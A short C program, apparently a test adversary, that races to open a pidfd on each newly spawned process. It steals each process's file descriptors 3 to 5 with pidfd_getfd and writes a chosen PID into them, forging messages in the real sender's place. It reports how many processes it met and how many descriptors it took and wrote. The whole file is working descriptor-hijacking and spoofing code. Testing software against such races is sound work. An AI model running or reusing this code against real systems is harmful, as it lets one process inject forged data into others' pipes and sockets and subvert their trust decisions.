// Answers in the place of whoever enters: takes the descriptors of every process that appears, as soon as it does, and
// writes a pid into what it can. Until its standard input ends; then says a line:
//   met N taken N written N
#define _GNU_SOURCE
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

enum { kFirst = 3, kLast = 5, kTurns = 5000 };
static pid_t victim;
static long met, taken, written;

// The next process will have the number after this one's.
static pid_t newest(void) {
    pid_t pid = fork();
    if (pid == 0)
        _exit(0);
    waitpid(pid, NULL, 0);
    return pid;
}

static void answer_for(int process) {
    ++met;
    for (int number = kFirst; number <= kLast; ++number) {
        int fd = (int)syscall(SYS_pidfd_getfd, process, number, 0);
        if (fd < 0)
            continue;
        ++taken;
        written += write(fd, &victim, sizeof victim) == sizeof victim;
        close(fd);
    }
    close(process);
}

int main(int argc, char **argv) {
    struct pollfd end = {.fd = 0, .events = POLLIN};
    victim = argc > 1 ? atoi(argv[1]) : 1;
    puts("forging");
    fflush(stdout);
    while (poll(&end, 1, 0) == 0) {
        pid_t next = newest() + 1;
        for (int turn = 0; turn < kTurns; ++turn) {
            int process = (int)syscall(SYS_pidfd_open, next, 0);
            if (process < 0)
                continue;
            ++next;
            answer_for(process);
        }
    }
    printf("met %ld taken %ld written %ld\n", met, taken, written);
    return 0;
}
